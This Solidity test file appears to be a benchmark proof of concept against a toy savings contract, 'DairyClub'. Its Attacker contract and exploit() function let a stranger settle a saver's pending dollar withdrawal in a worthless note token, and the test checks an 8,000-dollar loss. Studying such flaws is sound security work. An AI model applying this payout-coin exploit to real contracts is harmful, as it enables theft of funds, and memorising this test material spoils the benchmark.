// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-681418bb-d5a0-40f6-9fea-8d3433d8647d

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./DairyClub.sol";

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Dollar is ERC20 {
    constructor() ERC20("Dollar", "USD") {
        _mint(msg.sender, 1_000_000e6);
    }
}

// nobody pays a dollar for one
contract CheeseNote is ERC20 {
    constructor() ERC20("Cheese Note", "CHS") {
        _mint(msg.sender, 1_000_000e6);
    }
}

contract Attacker {
    function payOut(DairyClub club, uint256 id) external {
        club.payOut(id, club.note());
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant LIV = address(0x11F);
    address private constant PER = address(0x9E4);
    address private constant DAIRY = address(0xDA1);
    uint256 private constant START = 1_769_100_000;

    Dollar public dollar;
    CheeseNote public note;
    DairyClub public club;
    Attacker public stranger;

    function setUp() public {
        vm.warp(START);
        dollar = new Dollar();
        note = new CheeseNote();
        club = new DairyClub(dollar, note, DAIRY);
        note.transfer(address(club), 50_000e6);
        _save(LIV, 8_000e6);
        _save(PER, 3_000e6);
        vm.prank(LIV);
        club.leave(8_000e6, dollar);
        vm.warp(START + 7 days);
        stranger = new Attacker();
    }

    function _save(address who, uint256 amount) private {
        dollar.transfer(who, 10_000e6);
        vm.startPrank(who);
        dollar.approve(address(club), type(uint256).max);
        club.save(amount);
        vm.stopPrank();
    }

    function test_Regular() public {
        club.payOut(0, dollar);
        require(dollar.balanceOf(LIV) == 10_000e6 && club.owed() == 3_000e6, "out");
        vm.startPrank(PER);
        club.leave(1_000e6, dollar);
        club.leave(1_000e6, note);
        club.changeMind(1, note);
        club.changeMind(2, dollar);
        vm.stopPrank();
        vm.warp(START + 14 days);
        club.payOut(1, note);
        club.payOut(2, dollar);
        require(note.balanceOf(PER) == 1_000e6 && dollar.balanceOf(PER) == 8_000e6, "both");
        vm.prank(DAIRY);
        require(club.takeIn() == 1_000e6 && dollar.balanceOf(DAIRY) == 1_000e6, "the cheese");
        require(club.savedBy(PER) == 1_000e6 && club.owed() == 1_000e6, "left");
    }

    function test_RefusesToLeave() public {
        vm.startPrank(PER);
        vm.expectRevert(abi.encodeWithSignature("Error(string)", "nothing?"));
        club.leave(0, dollar);
        vm.expectRevert(abi.encodeWithSelector(DairyClub.NotACoin.selector, address(this)));
        club.leave(1, IERC20(address(this)));
        vm.expectRevert(abi.encodeWithSelector(DairyClub.NotYours.selector, 0));
        club.changeMind(0, note);
        vm.stopPrank();
        vm.startPrank(LIV);
        vm.expectRevert(abi.encodeWithSelector(DairyClub.NotACoin.selector, address(this)));
        club.changeMind(0, IERC20(address(this)));
        vm.stopPrank();
    }

    function test_RefusesToPay() public {
        vm.expectRevert(abi.encodeWithSelector(DairyClub.NotACoin.selector, address(this)));
        club.payOut(0, IERC20(address(this)));
        club.payOut(0, dollar);
        vm.expectRevert(abi.encodeWithSelector(DairyClub.Paid.selector, 0));
        club.payOut(0, dollar);
        vm.prank(PER);
        club.leave(1, dollar);
        vm.expectRevert(abi.encodeWithSelector(DairyClub.TooEarly.selector, START + 14 days));
        club.payOut(1, dollar);
        vm.expectRevert(abi.encodeWithSignature("Error(string)", "dairy only"));
        club.takeIn();
    }

    // what Liv has in dollars, and will have as she has said
    function dollars() external view returns (uint256) {
        (, IERC20 coin, uint256 amount,) = club.exits(0);
        return dollar.balanceOf(LIV) + (coin == dollar ? amount : 0);
    }

    function exploit() public {
        stranger.payOut(club, 0);
    }

    function test_Exploit() public {
        uint256 before = this.dollars();
        exploit();
        require(this.dollars() + 8_000e6 <= before, "no loss");
    }

    function target() public view returns (address) {
        return address(club);
    }

    function attacker() public view returns (address) {
        return address(stranger);
    }
}
